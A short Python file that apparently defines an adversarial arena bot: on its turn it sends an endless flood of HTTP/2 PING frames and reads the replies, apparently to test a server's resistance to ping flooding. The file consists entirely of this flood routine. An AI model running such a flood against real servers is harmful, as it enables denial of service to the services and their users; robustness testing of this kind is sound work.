"""Sends PING frames without end in its turn, and takes in what comes back."""

from rawhttp2 import PING, RawBot, frame

from arenabot.v1 import player_pb2 as player


class PingFlood(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.flood(frame(PING, bytes(8)))


if __name__ == "__main__":
    PingFlood().serve()
